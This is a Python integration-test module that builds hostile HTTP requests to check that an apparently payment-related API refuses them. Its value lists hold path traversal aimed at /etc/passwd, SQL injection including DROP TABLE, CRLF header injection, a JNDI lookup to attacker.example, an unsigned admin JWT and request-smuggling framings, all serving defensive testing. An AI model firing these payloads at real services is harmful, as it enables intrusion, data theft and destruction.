"""Requests whose head must be refused, whatever their body: keys, ids, query strings, methods, framing."""

from collections.abc import Iterator

from tests.integration.hostile.hostile_request import (
    AUTHORIZED,
    JSON,
    Header,
    HostileRequest,
    reads,
    target_of,
    writes,
)
from tests.integration.hostile.hostile_values import CARD, CARDS
from tests.integration.two_apis import KEY

_IDS = (
    *(b"..", b"%2e%2e%2f%2e%2e%2fetc%2fpasswd", b"..%5c..%5cwindows", b"%00", b"a%00b", b"0", b"-1", b"null"),
    *(b"'%20OR%20'1'='1", b"1;DROP%20TABLE%20events", b"%3Cscript%3E", b"%0d%0aSet-Cookie:%20a=b", b"%0aforged"),
    *(b"%ff", b"%c0%ae", b"%ed%a0%80", b"%E2%80%AE", b"%", b"%zz", b"%u0041", b"*", b"a" * 5_000),
    *(b"{019ab3c4-5d6e-7f80-9a1b-2c3d4e5f6071}", b"urn:uuid:019ab3c4-5d6e-7f80-9a1b-2c3d4e5f6071"),
    *(b"019ab3c45d6e7f809a1b2c3d4e5f6071", b"019ab3c4-5d6e-7f80-9a1b-2c3d4e5f6071%20", CARD.encode()),
    *(b"019ab3c4-5d6e-7f80-9a1b-2c3d4e5f6071", b"%EF%BC%90" * 8, b"00000000-0000-0000-0000-000000000000"),
)
_QUERIES = (
    *(b"amount_cents=1", b"=", b"a[]=1", b"%00=%00", b"a=1&a=2", b"__proto__[admin]=true", b"idempotency_key=x"),
    *(b"%ff=%fe", b"a=%0d%0aSet-Cookie:%20b", b"user_id=' OR 1=1--".replace(b" ", b"+"), b"a=" + b"b" * 20_000),
    CARD.encode() + b"=" + CARD.encode(),
)
_KEYS = (
    *(b"", b" ", b"Basic c2tfdGVzdDo=", b"Bearer", b"Bearer ", b"Bearer  ", b"bearer sk_test_wrong", KEY.encode()),
    *(b"Bearer " + KEY.encode() + b"x", b"Bearer " + KEY.encode()[:-1], b"Bearer " + KEY.encode() + b", Basic a"),
    *(b"Bearer " + KEY.upper().encode(), b"Bearer ' OR '1'='1", b"Bearer \xff\xfe", b"Bearer \xc3\xa9", b"Token a"),
    *(b"Bearer " + b"a" * 8_000, b"Bearer ${jndi:ldap://attacker.example}", b"Bearer ../../etc/passwd"),
    *(b"Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.", b"Bearer " + CARD.encode(), b"Bearer *", b"Bearer null"),
)
_IDEMPOTENCY_KEYS = (
    *(b"", b"   ", b'""', b'"', b'"unended', b'a"' + b"b" * 300, b"k" * 256, b'"' + b"k" * 256 + b'"', b"\xff"),
    *(b"\xc3\xa9", b"a\tb", b'"a\\b"', b'"a"b', b"k" * 20_000),
)
_ACTORS = (
    *(b"", b" ", b"1anna", b"anna/bob", b"anna bob", b"a" * 65, b"\xc3\xa9va", b"<b>", b"api:one"),
    *(b"anna%0a", b"' OR 1=1", CARD.encode(), b"a" + CARD.encode()),
)
_WRONG_METHODS = (b"PUT", b"TRACE", b"PROPFIND", b"LOCK")
_FRAMINGS: tuple[tuple[str, tuple[Header, ...], bytes], ...] = (
    ("two lengths", ((b"Content-Length", b"2"), (b"Content-Length", b"2")), b"{}"),
    ("two lengths that differ", ((b"Content-Length", b"2"), (b"Content-Length", b"3")), b"{} "),
    ("a list of lengths", ((b"Content-Length", b"2, 2"),), b"{}"),
    ("a length with a sign", ((b"Content-Length", b"+2"),), b"{}"),
    ("a negative length", ((b"Content-Length", b"-1"),), b"{}"),
    ("a length in hexadecimal", ((b"Content-Length", b"0x2"),), b"{}"),
    ("a length without end", ((b"Content-Length", b"9" * 20),), b"{}"),
    ("length and chunks", ((b"Content-Length", b"2"), (b"Transfer-Encoding", b"chunked")), b"0\r\n\r\n"),
    ("chunks and length", ((b"Transfer-Encoding", b"chunked"), (b"Content-Length", b"2")), b"0\r\n\r\n"),
    ("chunked twice", ((b"Transfer-Encoding", b"chunked"), (b"Transfer-Encoding", b"chunked")), b"0\r\n\r\n"),
    ("a chunk of no size", ((b"Transfer-Encoding", b"chunked"),), b"zz\r\n{}\r\n0\r\n\r\n"),
    ("a negative chunk", ((b"Transfer-Encoding", b"chunked"),), b"-2\r\n{}\r\n0\r\n\r\n"),
    ("a chunk longer than it says", ((b"Transfer-Encoding", b"chunked"),), b"1\r\n{}\r\n0\r\n\r\n"),
    ("trailers", ((b"Transfer-Encoding", b"chunked"),), b"2\r\n{}\r\n0\r\nIdempotency-Key: a\r\n\r\n"),
    ("a header in two lines", ((b"X-Note", b"a\r\n b"),), b""),
    ("a header without a name", ((b"", b"a"),), b""),
    ("a blank before the colon", ((b"X-Note ", b"a"),), b""),
    ("NUL in a header", ((b"X-Note", b"a\x00b"),), b""),
    ("a bare CR in a header", ((b"X-Note", b"a\rSet-Cookie: b"),), b""),
    ("a key with an underscore", ((b"Idempotency_Key", b"a"),), b""),
    ("101 headers", tuple((b"X-%d" % each, b"a") for each in range(101)), b""),
    ("a header of 40,000 bytes", ((b"X-Note", b"a" * 40_000),), b""),
    ("two hosts", ((b"Host", b"attacker.example"),), b""),
)
_VALID = {("name", b"null")}  # somebody may be called so
_TOO_LARGE = 16 * 1024 * 1024


def hostile_envelopes(ids: dict[str, str]) -> Iterator[HostileRequest]:
    """Yield requests to every route that needs an API key."""
    for route in [*writes(), *reads()]:
        plain = HostileRequest(reason="", route=route, target=target_of(route, ids))
        if route.body_schema is not None:
            plain = plain.but("", headers=(AUTHORIZED, JSON), body=b"{}")
        yield from _of_any(plain, ids)
        yield from _framed(plain)
        if route in set(writes()):
            yield from _of_writes(plain)


def _of_any(plain: HostileRequest, ids: dict[str, str]) -> Iterator[HostileRequest]:
    route, others = plain.route, plain.headers[1:]
    yield plain.but("no API key", headers=others)
    for key in _KEYS:
        yield plain.but(f"API key {key[:30]!r}", headers=((b"Authorization", key), *others))
    yield plain.but("two API keys", headers=(AUTHORIZED, AUTHORIZED, *others))
    for name in (each for each in ids if "{" + each + "}" in route.path):
        for hostile in (each for each in _IDS if (name, each) not in _VALID):
            target = target_of(route, ids | {name: "@@"}).replace(b"%40%40", hostile)
            yield plain.but(f"{name} {hostile[:30]!r}", target=target)
    for method in _WRONG_METHODS:
        yield plain.but(f"method {method!r}", method=method)
    yield plain.but("a slash at the end", target=plain.target + b"/")
    yield plain.but("a path of dots", target=plain.target + b"/../../health/%2e%2e")
    yield plain.but("a URL of 30,000 bytes", target=plain.target + b"/" + b"a" * 30_000, may_end_early=True)
    known = {each["name"] for each in route.operation.get("parameters", ()) if each["in"] == "query"}
    for query in (each for each in _QUERIES if each.partition(b"=")[0].decode() not in known):
        yield plain.but(f"?{query[:30].decode()}", target=plain.target + b"?" + query)


def _framed(plain: HostileRequest) -> Iterator[HostileRequest]:
    for reason, framing, body in _FRAMINGS:
        early = sum(len(name) + len(value) for name, value in framing) > 1_000
        yield plain.but(reason, framing=framing, body=body, may_end_early=early)


def _of_writes(plain: HostileRequest) -> Iterator[HostileRequest]:
    names = {each["name"] for each in plain.route.operation.get("parameters", ())}
    if "Idempotency-Key" in names:
        for key in (*_IDEMPOTENCY_KEYS, *(each.encode() for each in CARDS if each.isascii() and "%" not in each)):
            yield plain.but(f"Idempotency-Key {key[:30]!r}", headers=(*plain.headers, (b"Idempotency-Key", key)))
        twice = ((b"Idempotency-Key", b"a"), (b"idempotency-key", b"b"))
        yield plain.but("two idempotency keys", headers=(*plain.headers, *twice))
    if "Paystream-Actor" in names:
        for actor in _ACTORS:
            yield plain.but(f"Paystream-Actor {actor[:30]!r}", headers=(*plain.headers, (b"Paystream-Actor", actor)))
        twice = ((b"Paystream-Actor", b"anna"), (b"Paystream-Actor", b"bob"))
        yield plain.but("two actors", headers=(*plain.headers, *twice))
    if plain.route.body_schema is not None:
        yield from _of_wrong_size(plain)


def _of_wrong_size(plain: HostileRequest) -> Iterator[HostileRequest]:
    announced = ((b"Content-Length", b"%d" % _TOO_LARGE),)
    yield plain.but("a body that is too large, announced", framing=announced, body=b"{", may_end_early=True)
    filled = b'{"user_id": "' + b"a" * 1_100_000 + b'"}'
    yield plain.but("a body that is too large", body=filled, may_end_early=True)
    chunked = ((b"Transfer-Encoding", b"chunked"),)
    chunks = b"".join(b"10000\r\n" + b" " * 0x10000 + b"\r\n" for _ in range(17)) + b"0\r\n\r\n"
    yield plain.but("chunks that are too large", framing=chunked, body=chunks, may_end_early=True)
    extended = b"".join(b"1;" + b"e" * 4_000 + b"\r\n \r\n" for _ in range(100)) + b"0\r\n\r\n"
    yield plain.but("chunks of extensions", framing=chunked, body=extended, may_end_early=True)
    yield plain.but("a body shorter than its length", framing=((b"Content-Length", b"50"),), body=b'{"a": ')
